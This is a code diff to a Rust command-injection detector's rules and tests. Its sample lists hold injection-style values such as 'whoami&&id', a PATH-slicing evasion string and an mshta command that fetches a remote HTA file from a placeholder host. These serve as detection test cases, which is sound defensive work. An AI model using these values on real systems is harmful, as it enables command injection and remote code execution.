@@ -67,7 +67,6 @@ static COMMAND: Rule = Rule::recognised(
         "ls||id",
         "id|echo x",
         "whoami&&id",
-        "' & calc.exe # '",
         "|pfs -a /var/x|",
     ],
     &[
@@ -107,6 +106,7 @@ static COMMAND: Rule = Rule::recognised(
         "chrome.exe; notepad.exe; calc.exe",
         "| a -5 |",
         "| and/or |",
+        "|make -j file|",
         "|a -b|c|",
         "<(a b)",
         "(<x)",
@@ -132,7 +132,7 @@ static START: Rule = Rule::recognised(
         "${PATH:0:1}bin${PATH:0:1}ls",
         "mshta http://x.test/a.hta",
         "alias ls-al='ls -al'",
-        "expr 812 + 912",
+        "expr 812  + 912",
         "cd /;ls",
         "find /etc -name x",
         "ping`` 127.0.0.1",
@@ -148,6 +148,8 @@ static START: Rule = Rule::recognised(
         "curl up",
         "alias a for b",
         "expr 5 is a call",
+        "EXPR 101 - Drawing",
+        "expr 3 % of x",
         "cd player",
         "find / in a path",
     ],
@@ -274,7 +276,7 @@ pub(super) fn judge(input: &Input<'_>, plain: &mut Vec<u8>, report: &mut Report<
     }
 }
 
-/// `|pfs -a /x|`: one command between two pipes, whose name nobody knows, and its option.
+/// `|pfs -a /x|`: one command between two pipes, whose name nobody knows, with an option and a path.
 fn is_between_pipes(text: &[u8]) -> bool {
     let inside = text
         .strip_prefix(b"|")
@@ -286,9 +288,11 @@ fn is_between_pipes(text: &[u8]) -> bool {
         .split(|byte| *byte == b' ');
     let name = words.next().unwrap_or_default();
     let option = words.next().unwrap_or_default();
+    let path = words.next().unwrap_or_default();
     name.len() > 1
         && name.iter().all(u8::is_ascii_lowercase)
         && matches!(option, [b'-', letter] if letter.is_ascii_alphabetic())
+        && matches!(path, [b'/', letter, ..] if letter.is_ascii_alphabetic())
 }
 
 /// Whether the last word of a header, which stands there, is a language: `sendgrid/6.11.0;python`.
